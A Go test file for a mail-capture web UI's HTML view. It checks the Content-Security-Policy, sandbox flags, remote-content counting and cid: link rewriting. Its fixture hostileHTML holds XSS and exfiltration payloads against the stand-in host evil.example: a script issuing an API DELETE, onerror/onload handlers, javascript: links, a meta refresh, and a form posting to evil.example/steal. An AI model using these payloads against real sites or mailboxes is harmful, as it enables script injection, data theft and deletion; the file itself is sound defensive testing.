package webui

import (
	"io"
	"net/http"
	"strings"
	"testing"
)

// hostileHTML tries every way captured mail could run script, leave the
// sandbox, submit data, or phone home.
const hostileHTML = `<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>@import "https://evil.example/i.css"; body { background: url('//evil.example/bg.png') }</style>
<script>fetch('/api/v1/messages', {method: 'DELETE'})</script>
<script src="https://evil.example/x.js"></script>
</head><body onload="alert(1)">
<img src="x" onerror="alert(1)">
<img src="https://tracker.example/p.gif?u=1">
<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">
<img src="cid:logo@x">
<div style="background-image: url(&quot;http://evil.example/div.png&quot;)">styled</div>
<a href="javascript:alert(1)">js link</a>
<a href="https://example.com/ok">fine link</a>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<object data="https://evil.example/o.swf"></object>
<svg onload="alert(1)"><image href="https://evil.example/svg.png"/></svg>
<form action="https://evil.example/steal" method="post"><input name="p"><button>go</button></form>
</body></html>`

// hostileRemote is how many remote loads hostileHTML has: the stylesheet
// link, the @import, the CSS url(), the script src, the tracker, the
// srcset, the div's url() and the object data. (The svg <image href> is
// missed by the scan; the CSP blocks it all the same.)
const hostileRemote = 8

func hostileMsg() string {
	return "From: spam@evil.example\r\nTo: bob@example.com\r\nSubject: hostile\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/related; boundary=b\r\n\r\n" +
		"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + hostileHTML + "\r\n" +
		"--b\r\nContent-Type: image/png\r\nContent-ID: <logo@x>\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		pngBase64 + "\r\n--b--\r\n"
}

// policy parses a CSP into its directives.
func policy(csp string) map[string][]string {
	out := map[string][]string{}
	for _, d := range strings.Split(csp, ";") {
		f := strings.Fields(d)
		if len(f) > 0 {
			out[f[0]] = f[1:]
		}
	}
	return out
}

// sources returns the effective source list of a fetch directive.
func sources(p map[string][]string, directive string) []string {
	if s, ok := p[directive]; ok {
		return s
	}
	return p["default-src"]
}

func TestHTMLHostile(t *testing.T) {
	e := newTestEnv(t)
	m := e.add(hostileMsg(), "bob@example.com")
	resp := e.request("GET", "/api/v1/messages/"+m.ID+"/html", nil)
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "text/html; charset=utf-8" {
		t.Fatalf("status %d, type %q", resp.StatusCode, resp.Header.Get("Content-Type"))
	}
	h := resp.Header
	p := policy(h.Get("Content-Security-Policy"))
	t.Logf("CSP: %s", h.Get("Content-Security-Policy"))
	if d := p["default-src"]; len(d) != 1 || d[0] != "'none'" {
		t.Errorf("default-src %q", d)
	}
	for _, dir := range []string{"script-src", "object-src", "frame-src", "connect-src", "child-src", "worker-src", "manifest-src"} {
		if s := sources(p, dir); len(s) != 1 || s[0] != "'none'" {
			t.Errorf("%s allows %q", dir, s)
		}
	}
	for _, dir := range []string{"img-src", "style-src", "font-src", "media-src"} {
		for _, s := range sources(p, dir) {
			if s == "https:" || s == "http:" || s == "*" || strings.Contains(s, "evil") || s == "'unsafe-eval'" {
				t.Errorf("%s allows remote %q", dir, s)
			}
		}
	}
	sandbox, ok := p["sandbox"]
	if !ok {
		t.Error("no sandbox directive")
	}
	for _, flag := range sandbox {
		switch flag {
		case "allow-scripts", "allow-same-origin", "allow-forms", "allow-top-navigation", "allow-modals",
			"allow-top-navigation-by-user-activation", "allow-downloads":
			t.Errorf("sandbox allows %s", flag)
		}
	}
	if fa := p["form-action"]; len(fa) != 1 || fa[0] != "'none'" {
		t.Errorf("form-action %q", fa)
	}
	if ba := p["base-uri"]; len(ba) != 1 || ba[0] != "'none'" {
		t.Errorf("base-uri %q", ba)
	}
	if fa := p["frame-ancestors"]; len(fa) != 1 || fa[0] != "'self'" {
		t.Errorf("frame-ancestors %q", fa)
	}
	for name, want := range map[string]string{
		"X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer", "X-Frame-Options": "SAMEORIGIN",
		"X-Intray-Remote-Blocked": "8", "Cache-Control": "no-store",
	} {
		if got := h.Get(name); got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	if h.Get("Set-Cookie") != "" || h.Get("Access-Control-Allow-Origin") != "" {
		t.Error("cookie or CORS header on /html")
	}
	if want := `<img src="/api/v1/messages/` + m.ID + `/parts/2">`; !strings.Contains(string(body), want) {
		t.Errorf("cid not rewritten to %s", want)
	}
	var full messageJSON
	e.call("GET", "/api/v1/messages/"+m.ID, "", 200, &full)
	if full.RemoteContent != hostileRemote {
		t.Errorf("remoteContent = %d, want %d", full.RemoteContent, hostileRemote)
	}
	// The rewritten cid URL serves the image.
	img := e.call("GET", "/api/v1/messages/"+m.ID+"/parts/2", "", 200, nil)
	if img.Header.Get("Content-Type") != "image/png" {
		t.Errorf("cid part type %q", img.Header.Get("Content-Type"))
	}
}

func TestHTMLRemoteAllowed(t *testing.T) {
	e := newTestEnv(t)
	m := e.add(hostileMsg(), "bob@example.com")
	resp := e.call("GET", "/api/v1/messages/"+m.ID+"/html?remote=1", "", 200, nil)
	p := policy(resp.Header.Get("Content-Security-Policy"))
	if img := strings.Join(p["img-src"], " "); !strings.Contains(img, "https:") {
		t.Errorf("remote=1 img-src %q", img)
	}
	if s := sources(p, "script-src"); len(s) != 1 || s[0] != "'none'" {
		t.Errorf("remote=1 script-src %q", s)
	}
	if _, ok := p["sandbox"]; !ok {
		t.Error("remote=1 lost the sandbox")
	}
	if n := resp.Header.Get("X-Intray-Remote-Blocked"); n != "0" {
		t.Errorf("remote=1 blocked = %s", n)
	}
}

func TestHTMLErrors(t *testing.T) {
	e := newTestEnv(t)
	m := e.add(plainMsg("bob@example.com", "text only"), "bob@example.com")
	e.callError("GET", "/api/v1/messages/"+m.ID+"/html", "", http.StatusNotFound)
	e.callError("GET", "/api/v1/messages/nosuch/html", "", http.StatusNotFound)
}

func TestCountRemote(t *testing.T) {
	for _, c := range []struct {
		html string
		want int
	}{
		{`<p>plain</p>`, 0},
		{`<img src="https://x.test/a.png">`, 1},
		{`<IMG SRC='HTTP://x.test/a.png'>`, 1},
		{`<img src=//x.test/a.png>`, 1},
		{`<img src="cid:a"><img src="data:image/png;base64,AAAA">`, 0},
		{`<a href="https://x.test/">link</a>`, 0},
		{`<link rel=stylesheet href="https://x.test/s.css">`, 1},
		{`<table background="http://x.test/bg.gif">`, 1},
		{`<video poster="https://x.test/p.jpg">`, 1},
		{`<div style="background:url(https://x.test/a)">`, 1},
		{`<style>@import url("https://x.test/a.css");</style>`, 1},
		{`<p>see url(https://x.test) in text</p>`, 1}, // text that looks like CSS counts: a false positive is harmless
	} {
		if got := countRemote(c.html); got != c.want {
			t.Errorf("countRemote(%s) = %d, want %d", c.html, got, c.want)
		}
	}
}

func TestRewriteCID(t *testing.T) {
	tree := richTree(t)
	got := rewriteCID(`<img src="cid:logo@x"><img src="CID:%3Clogo%40x%3E"><img src="cid:unknown">`, tree, "ID")
	want := `<img src="/api/v1/messages/ID/parts/1.2"><img src="/api/v1/messages/ID/parts/1.2"><img src="cid:unknown">`
	if got != want {
		t.Errorf("rewriteCID = %s\nwant %s", got, want)
	}
}
